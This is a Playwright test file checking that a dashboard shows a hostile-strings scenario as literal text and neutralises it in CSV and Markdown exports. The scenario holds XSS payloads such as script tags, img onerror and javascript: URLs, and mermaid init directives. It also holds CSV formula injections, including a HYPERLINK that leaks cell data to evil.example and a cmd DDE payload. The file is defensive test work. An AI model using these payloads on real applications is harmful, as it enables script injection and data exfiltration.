/**
 * Scenario strings are data, never markup — the hostile-strings scenario (public/scenarios/
 * hostile-strings.json: <script>, <img onerror>, mermaid %%{init}%% directives, javascript: URLs,
 * CSV formula starters, control characters) everywhere it can travel: the panels, the diagrams,
 * the embed, the CSV and Markdown exports. Every attack sets `window.__pwned`; it must stay unset,
 * the text must be shown literally, and no injected element may exist in the document.
 */
import { readFile } from 'node:fs/promises';
import type { Frame, Page } from '@playwright/test';
import { encodeShare } from '../src/platform/share';
import type { ScenarioInput } from '../src/engine';
import { expect, test, testIds } from './fixtures';

const HOSTILE_FILE = 'public/scenarios/hostile-strings.json';

async function hostile() {
  return JSON.parse(await readFile(HOSTILE_FILE, 'utf8')) as ScenarioInput & {
    workload: { events: { id: string }[] };
  };
}

/** Nothing ran and nothing was injected. */
async function clean(page: Page | Frame) {
  expect(
    await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
      injected: document.querySelectorAll(
        'img[src="x"], [onerror], [onload], [onmouseover], a[href^="javascript:"]',
      ).length,
      inlineScripts: document.querySelectorAll('script:not([src])').length,
    })),
  ).toEqual({ pwned: null, injected: 0, inlineScripts: 0 });
}

function watch(page: Page): string[] {
  const errors: string[] = [];
  // A CSP violation (an inline handler that got into the DOM) is a console error: none allowed.
  page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  page.on('pageerror', (e) => errors.push(e.message));
  return errors;
}

test('the hostile-strings scenario: every panel and diagram shows the text literally, nothing runs', async ({
  page,
  unopenedDash: dash,
}) => {
  const errors = watch(page);
  const scenario = await hostile();
  await dash.goto(`./#${encodeShare(scenario)}`);
  // Shown as text: the name in the picker, the ids in the ledger.
  await expect(page.getByTestId(testIds.scenarioPicker)).toContainText(
    '<script>window.__pwned=1</script> hostile strings %%{init:',
  );
  const ledger = page.getByTestId(testIds.ledger);
  await expect(ledger).toContainText('<script>window.__pwned=1</script>');
  await expect(ledger).toContainText('<img src=x onerror="window.__pwned=1">');
  await page.getByTestId(testIds.timeline).focus();
  await page.keyboard.press('End');
  await clean(page);

  // The diagrams: the whole run, the topology, and the chain of the <img onerror> event.
  await page.getByTestId(testIds.diagramsToggle).click();
  const svg = page.getByTestId(testIds.diagramSvg).locator('svg');
  const status = page.getByTestId(testIds.diagramStatus);
  await expect(status).toHaveAttribute('data-state', 'ok', { timeout: 20_000 });
  await expect(svg).toContainText('<script>window.__pwned=1</script>');
  await page.locator(`[data-testid="${testIds.diagramTab}"][data-tab="flow"]`).click();
  await expect(status).toHaveAttribute('data-state', 'ok');
  await expect(svg).toContainText('lost ack</b>');
  await ledger.getByText('<img src=x onerror="window.__pwned=1">').first().click();
  await page.locator(`[data-testid="${testIds.diagramTab}"][data-tab="event"]`).click();
  await expect(status).toHaveAttribute('data-state', 'ok');
  await expect(svg).toContainText('<img src=x onerror=');
  // A %%{init}%% directive in an id did not reconfigure mermaid (strict, default theme).
  await expect(page.getByTestId(testIds.diagramText)).not.toContainText('\n%%{init');
  // The mermaid text on the page is text too.
  await expect(page.getByTestId(testIds.diagramText)).toContainText('sequenceDiagram');
  await clean(page);
  expect(errors).toEqual([]);
});

test('the hostile strings in the CSV and Markdown exports are neutralised', async ({ dash }) => {
  const { page } = dash;
  const scenario = await hostile();
  await dash.api('load', scenario);
  const download = async (format: string) => {
    await dash.byId(testIds.exportButton).click();
    const [d] = await Promise.all([
      page.waitForEvent('download'),
      page.locator(`[data-testid="${testIds.exportItem}"][data-format="${format}"]`).click(),
    ]);
    // The file name is a safe stem, whatever the scenario's name.
    expect(d.suggestedFilename()).toMatch(/^[a-z0-9-]+\.[a-z.]+$/);
    return readFile((await d.path())!, 'utf8');
  };
  const ledger = await download('ledger-csv');
  // Formula starters are neutralised with a leading quote.
  expect(ledger).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
  expect(ledger).toContain("'+1+cmd|' /C calc'!A0");
  expect(ledger).toContain("'@SUM(1+1)");
  expect(ledger).toContain("'-2+3");
  expect(ledger).not.toMatch(/(^|,)[=+@-]/m);
  const table = await download('table-csv');
  expect(table).not.toMatch(/(^|,)[=+@]/m);
  const md = await download('markdown');
  // Markup is backslash-escaped (Markdown shows it as text), never raw.
  expect(md).toContain('\\<script\\>window.');
  expect(md).not.toMatch(/(^|[^\\])<(script|img|b|svg)\b/m);
  expect(md).not.toMatch(/\]\(javascript:/);
  await clean(page);
  expect(dash.errors).toEqual([]);
});

test('the embed shows a hostile caption and scenario as text', async ({
  page,
  unopenedDash: dash,
}) => {
  const errors = watch(page);
  const scenario = await hostile();
  const caption = '<img src=x onerror="window.__pwned=1"> %%{init}%% javascript:alert(1)';
  await dash.goto(
    `./?embed&autoplay=1&speed=10&predict=1&q=${encodeURIComponent('<b>Q?</b>')}&a=${encodeURIComponent('<script>window.__pwned=1</script>')}&caption=${encodeURIComponent(caption)}#${encodeShare(scenario)}`,
  );
  await expect(page.getByTestId(testIds.embedCaption)).toHaveText(caption);
  await expect(page.getByTestId(testIds.embedPredict)).toContainText('<b>Q?</b>');
  await page.getByTestId(testIds.embedReveal).click();
  await expect(page.getByTestId(testIds.embedAnswer)).toContainText(
    '<script>window.__pwned=1</script>',
  );
  await expect(page.getByTestId(testIds.embedPlayer)).toContainText('<img src=x onerror=');
  await clean(page);
  expect(errors).toEqual([]);
});

test('importing the hostile file: refused or shown, never run; a 100 KB id is refused', async ({
  dash,
}) => {
  const { page } = dash;
  await dash.byId(testIds.importButton).click();
  await dash.byId(testIds.importFile).setInputFiles(HOSTILE_FILE);
  await dash.settled();
  await expect(dash.byId(testIds.ledger)).toContainText('javascript:window.__pwned=1');
  await clean(page);
  // 100 KB of text in an id: refused with its field path, nothing changes.
  const before = await dash.api('traceHash');
  const scenario = await hostile();
  scenario.workload.events[0]!.id = 'x'.repeat(100_000);
  await dash.byId(testIds.importButton).click();
  await dash.byId(testIds.importPaste).fill(JSON.stringify(scenario));
  await dash.byId(testIds.importSubmit).click();
  await expect(dash.byId(testIds.importErrors)).toContainText('workload.events.0.id');
  expect(await dash.api('traceHash')).toBe(before);
  await clean(page);
  expect(dash.errors).toEqual([]);
});
